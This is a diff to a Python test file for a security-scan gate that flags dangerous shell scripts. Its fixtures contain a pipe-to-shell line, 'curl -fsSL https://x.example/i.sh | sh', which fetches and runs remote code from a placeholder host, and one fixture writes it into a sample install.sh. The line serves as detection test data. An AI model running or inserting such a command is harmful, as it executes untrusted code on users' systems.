@@ -181,8 +181,8 @@ def test_security_scan_sends_shell_scripts_to_the_projects_scanner(
     def scan_text(text: str, where: str) -> list[_Finding]:
         seen.append(where)
         if "| sh" in text:
-            return [_Finding("pipe-to-shell", "execution", "high", f"{where}:2", "downloads and runs code",
-                             "curl … | sh")]
+            return [_Finding("pipe-to-shell", "remote_exec", "high", where, "downloads and runs code",
+                             "curl -fsSL https://x.example/i.sh | sh")]
         return []
 
     monkeypatch.setitem(sys.modules, "agent_agency_cli.validation", types.SimpleNamespace(scan_text=scan_text))
@@ -191,7 +191,9 @@ def test_security_scan_sends_shell_scripts_to_the_projects_scanner(
     r = run_gate(GateSpec(type="security_scan"), ctx)
     assert sorted(seen) == ["scripts/deploy", "scripts/install.sh"]
     assert r.status == "failed"
-    assert r.violations == ["scripts/install.sh:2 pipe-to-shell [high] downloads and runs code"]
+    assert r.violations == [
+        "scripts/install.sh:2 pipe-to-shell [high] downloads and runs code: `curl -fsSL https://x.example/i.sh | sh`"
+    ]
     assert r.details["scripts"] == 2 and r.details["python_files"] == 0 and r.evidence == []
 
 
@@ -203,7 +205,9 @@ def test_security_scan_real_scanner_flags_curl_pipe_sh(ctx: GateContext) -> None
     _write(ctx.workdir, {"install.sh": "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n",
                          "clean.sh": "#!/bin/sh\nset -eu\necho hello\n"})
     bad = run_gate(GateSpec(type="security_scan", paths=["install.sh"]), ctx)
-    assert bad.status == "failed" and bad.violations and "install.sh" in bad.violations[0]
+    assert bad.status == "failed"
+    assert bad.violations[0].startswith("install.sh:2 pipe-to-shell [high] ")
+    assert bad.details["by_rule"] == {"pipe-to-shell": 1}
     good = run_gate(GateSpec(type="security_scan", paths=["clean.sh"]), ctx)
     assert good.status == "passed", good.violations
 
